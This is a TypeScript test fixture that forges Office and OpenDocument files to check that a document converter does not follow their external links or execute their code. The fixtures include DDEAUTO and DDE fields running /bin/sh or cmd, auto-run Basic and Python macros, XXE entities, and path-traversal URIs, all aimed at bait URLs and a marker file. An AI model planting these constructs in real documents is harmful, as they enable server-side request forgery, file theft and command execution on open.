/** Office documents with links to files and addresses. */
import type { Bait } from '#test/hostile/attacked-engine.ts';
import { docx, odf, odfXml, openDocument, WORDS, xlsx } from '#test/hostile/forge-office.ts';
import { xls } from '#test/hostile/forge-xls.ts';
import type { HostileFile } from '#test/hostile/hostile-file.ts';

const TO_PDF = { operation: 'convert', options: { convert: { to: 'pdf' } } } as const;

/** Documents with links to files and addresses. Their other content does not matter. */
export const DOCUMENTS_WITH_LINKS: readonly HostileFile[] = [
  {
    name: 'a DOCX with linked images',
    filename: 'a.docx',
    bytes: (bait) =>
      docx({
        body: picture('rIdHttp') + picture('rIdFile') + vml('rIdHttp') + vml('rIdFile'),
        links: [
          { id: 'rIdHttp', type: 'image', target: bait.url('docx-image.png') },
          { id: 'rIdFile', type: 'image', target: bait.fileUrl },
        ],
      }),
    ...TO_PDF,
    ends: ['done'],
  },
  {
    name: 'a DOCX with a template, mail-merge data and a frameset elsewhere',
    filename: 'a.docx',
    bytes: (bait) =>
      docx({
        settings:
          '<w:attachedTemplate r:id="rIdTemplate"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="textFile"/><w:connectString w:val=""/><w:query w:val="SELECT * FROM x"/><w:dataSource r:id="rIdMerge"/></w:mailMerge>',
        settingsLinks: [
          { id: 'rIdTemplate', type: 'attachedTemplate', target: bait.url('template.dotm') },
          { id: 'rIdMerge', type: 'mailMergeSource', target: bait.fileUrl },
        ],
      }),
    ...TO_PDF,
    ends: ['done'],
  },
  {
    name: 'a DOCX with parts and objects elsewhere',
    filename: 'a.docx',
    bytes: (bait) =>
      docx({
        body: `<w:altChunk r:id="rIdChunk"/><w:subDoc r:id="rIdSub"/><w:p><w:r><w:object><v:shape style="width:90pt;height:90pt"/><o:OLEObject Type="Link" ProgID="Word.Document.8" r:id="rIdOle" UpdateMode="Always"/></w:object></w:r></w:p>`,
        links: [
          { id: 'rIdChunk', type: 'aFChunk', target: bait.url('chunk.html') },
          { id: 'rIdSub', type: 'subDocument', target: bait.fileUrl },
          { id: 'rIdOle', type: 'oleObject', target: bait.fileUrl },
        ],
      }),
    ...TO_PDF,
    ends: ['done', 'processing_failed'],
  },
  {
    name: 'a DOCX whose fields include files, images and the output of programs',
    filename: 'a.docx',
    bytes: (bait) =>
      docx({
        body: [
          `INCLUDEPICTURE "${bait.url('field.png')}" \\d`,
          `INCLUDETEXT "${bait.path}"`,
          `DDEAUTO /bin/sh "-c 'touch ${bait.unwritten}'"`,
          `IMPORT "${bait.fileUrl}"`,
          `DATABASE \\d "${bait.path}"`,
        ]
          .map(field)
          .join(''),
      }),
    ...TO_PDF,
    ends: ['done'],
  },
  {
    name: 'a DOCX with an SVG and a metafile that name files',
    filename: 'a.docx',
    bytes: (bait) =>
      docx({
        body: picture('rIdSvg', 'embed'),
        links: [],
        parts: [
          {
            name: 'word/media/a.svg',
            data: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "${bait.fileUrl}">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${bait.url('svg.png')}" width="9" height="9"/><image xlink:href="${bait.fileUrl}" width="9" height="9"/><text>&e;</text></svg>`,
          },
          { name: 'word/media/b.emf', data: Buffer.alloc(5000, 0x7f) },
        ],
      }),
    ...TO_PDF,
    ends: ['done'],
  },
  {
    name: 'an RTF with linked images, objects and a template',
    filename: 'a.rtf',
    bytes: (bait) =>
      Buffer.from(
        [
          '{\\rtf1\\ansi',
          `{\\*\\template ${bait.url('rtf.dot')}}`,
          `{\\field{\\*\\fldinst INCLUDEPICTURE "${bait.url('rtf.png')}" \\\\d}{\\fldrslt x}}`,
          `{\\field{\\*\\fldinst INCLUDETEXT "${bait.path}"}{\\fldrslt x}}`,
          `{\\field{\\*\\fldinst DDEAUTO /bin/sh "-c touch ${bait.unwritten}"}{\\fldrslt x}}`,
          '{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000001000000}}',
          `${WORDS}\\par}`,
        ].join('\n'),
      ),
    ...TO_PDF,
    ends: ['done'],
  },
  ...(['odt', 'fodt'] as const).map((format): HostileFile => ({
    name: `an ${format.toUpperCase()} with linked images, sections and scripts`,
    filename: `a.${format}`,
    bytes: (bait) => odf(format === 'fodt', { type: 'text', body: linkedText(bait), before: autoMacro(bait) }),
    ...TO_PDF,
    ends: ['done'],
  })),
  ...(['ods', 'fods'] as const).map((format): HostileFile => ({
    name: `an ${format.toUpperCase()} whose formulas and areas lie elsewhere`,
    filename: `a.${format}`,
    bytes: (bait) => odf(format === 'fods', { type: 'spreadsheet', body: linkedSheet(bait), before: autoMacro(bait) }),
    ...TO_PDF,
    ends: ['done'],
  })),
  {
    name: 'an ODP with linked images, audio and video',
    filename: 'a.odp',
    bytes: (bait) =>
      odf(false, {
        type: 'presentation',
        before: autoMacro(bait),
        body: `<draw:page draw:name="a"><draw:frame svg:width="9cm" svg:height="9cm"><draw:text-box><text:p>${WORDS}</text:p></draw:text-box></draw:frame>${images(bait)}<draw:frame svg:width="9cm" svg:height="9cm"><draw:plugin xlink:href="${bait.url('film.mp4')}" draw:mime-type="application/vnd.sun.star.media"/></draw:frame><draw:frame svg:width="9cm" svg:height="9cm"><draw:object xlink:href="${bait.fileUrl}"/></draw:frame></draw:page>`,
      }),
    ...TO_PDF,
    ends: ['done'],
  },
  {
    name: 'an XLSX whose formulas call, link and start',
    filename: 'a.xlsx',
    bytes: (bait) =>
      xlsx({
        rows: [
          `WEBSERVICE("${bait.url('webservice')}")`,
          `HYPERLINK("${bait.url('hyperlink')}","x")`,
          `cmd|'/c touch ${bait.unwritten}'!A1`,
          `[1]A!A1`,
          `IMAGE("${bait.url('image')}")`,
          `INDIRECT("'${bait.fileUrl}'#$A.A1")`,
        ]
          .map((formula, index) => `<row r="${index + 2}"><c r="A${index + 2}"><f>${xml(formula)}</f></c></row>`)
          .join(''),
        workbook:
          '<externalReferences><externalReference r:id="rIdExternal"/></externalReferences><calcPr fullCalcOnLoad="1"/>',
        links: [
          { id: 'rIdExternal', type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
          { id: 'rIdConnections', type: 'connections', target: 'connections.xml' },
        ],
        types: [
          [
            '/xl/externalLinks/externalLink1.xml',
            'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
          ],
          ['/xl/connections.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml'],
        ],
        parts: [
          {
            name: 'xl/externalLinks/externalLink1.xml',
            data: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="A"/></sheetNames></externalBook></externalLink>',
          },
          {
            name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
            data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="${bait.url('book.xlsx')}" TargetMode="External"/></Relationships>`,
          },
          {
            name: 'xl/connections.xml',
            data: `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="w" type="4" refreshOnLoad="1" background="1"><webPr url="${bait.url('connection')}" sourceData="1" parsePre="1" consecutive="1"/></connection></connections>`,
          },
        ],
      }),
    ...TO_PDF,
    ends: ['done'],
  },
  ...['pdf', 'csv', 'xlsx'].flatMap((to) =>
    ['an address', 'a file'].map((where): HostileFile => ({
      name: `an XLS whose formula reads its value from ${where}, and whose cell links there, converted to ${to}`,
      filename: 'a.xls',
      bytes: (bait) => {
        const link = where === 'a file' ? bait.fileUrl : bait.url('book.xls');
        return xls({ cells: [[0, 0]], book: link, link });
      },
      operation: 'convert',
      options: { convert: { to } },
      ends: ['done'],
    })),
  ),
  {
    name: 'an ODT with a font under a name that climbs',
    filename: 'a.odt',
    bytes: (bait) =>
      openDocument(
        'text',
        odfXml({
          type: 'text',
          before: `<office:font-face-decls><style:font-face style:name="X" svg:font-family="X"><svg:font-face-src><svg:font-face-uri xlink:href="../../../../../../..${bait.unwritten}" xlink:type="simple"/><svg:font-face-uri xlink:href="${bait.url('font.ttf')}" xlink:type="simple"/></svg:font-face-src></style:font-face></office:font-face-decls>`,
          body: `<text:p>${WORDS}</text:p>`,
        }),
      ),
    ...TO_PDF,
    ends: ['done'],
  },
];

function picture(id: string, how: 'link' | 'embed' = 'link'): string {
  return `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="a"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:${how}="${id}"/></pic:blipFill><pic:spPr><a:xfrm><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
}

function vml(id: string): string {
  return `<w:p><w:r><w:pict><v:shape style="width:90pt;height:90pt"><v:imagedata r:id="${id}" r:href="${id}"/></v:shape></w:pict></w:r></w:p>`;
}

function field(code: string): string {
  const char = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}" w:dirty="true"/></w:r>`;
  return `<w:p>${char('begin')}<w:r><w:instrText xml:space="preserve">${xml(code)}</w:instrText></w:r>${char('separate')}<w:r><w:t>x</w:t></w:r>${char('end')}</w:p>`;
}

function images({ url, fileUrl }: Bait): string {
  return [url('odf.png'), fileUrl, `vnd.sun.star.webdav:${url('webdav').slice(5)}`]
    .map(
      (href) =>
        `<draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph"><draw:image xlink:href="${href}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>`,
    )
    .join('');
}

function linkedText(bait: Bait): string {
  return [
    `<text:p>${WORDS}</text:p><text:p>${images(bait)}</text:p>`,
    `<text:section text:name="a"><text:section-source xlink:href="${bait.fileUrl}" xlink:type="simple" text:filter-name="Text"/><text:p/></text:section>`,
    `<text:section text:name="b"><text:section-source xlink:href="${bait.url('section.html')}" xlink:type="simple"/><text:p/></text:section>`,
    `<text:section text:name="c"><office:dde-source office:dde-application="soffice" office:dde-topic="${bait.path}" office:dde-item="x" office:automatic-update="true"/><text:p/></text:section>`,
    `<text:p><draw:frame svg:width="3cm" svg:height="3cm"><draw:object xlink:href="${bait.fileUrl}" xlink:type="simple" xlink:show="embed"/></draw:frame><draw:frame svg:width="3cm" svg:height="3cm"><draw:floating-frame xlink:href="${bait.url('frame.html')}"/></draw:frame></text:p>`,
  ].join('');
}

function linkedSheet(bait: Bait): string {
  const cell = (formula: string): string =>
    `<table:table-row><table:table-cell table:formula="${xml(formula)}" office:value-type="string" office:string-value="x"><text:p>x</text:p></table:table-cell></table:table-row>`;
  return [
    `<table:table table:name="A"><table:shapes>${images(bait)}</table:shapes>`,
    `<table:table-row><table:table-cell office:value-type="string"><text:p>${WORDS}</text:p></table:table-cell></table:table-row>`,
    `<table:table-row><table:table-cell office:value-type="string"><table:cell-range-source table:name="a" table:filter-name="Text - txt - csv (StarCalc)" xlink:href="${bait.fileUrl}" table:last-column-spanned="1" table:last-row-spanned="1" table:refresh-delay="PT1S"/><text:p>x</text:p></table:table-cell></table:table-row>`,
    cell(`of:=WEBSERVICE("${bait.url('ods-webservice')}")`),
    cell(`of:=['${bait.fileUrl}'#$A.A1]`),
    cell(`of:=DDE("soffice";"${bait.path}";"A1")`),
    `</table:table><table:table table:name="B"><table:table-source xlink:href="${bait.url('table.csv')}" table:mode="copy-all" table:filter-name="Text - txt - csv (StarCalc)"/></table:table>`,
  ].join('');
}

/** Returns macros in two languages that run a program when the document is opened. */
function autoMacro({ unwritten }: Bait): string {
  const event = (href: string): string =>
    `<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="${xml(href)}" xlink:type="simple"/>`;
  return `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Main&#10;Shell("touch ${unwritten}")&#10;End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners>${event('vnd.sun.star.script:Standard.M.Main?language=Basic&location=document')}${event(`vnd.sun.star.script:../../../usr/lib/python3/dist-packages/os.py$system?language=Python&location=share`)}</office:event-listeners></office:scripts>`;
}

function xml(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
}
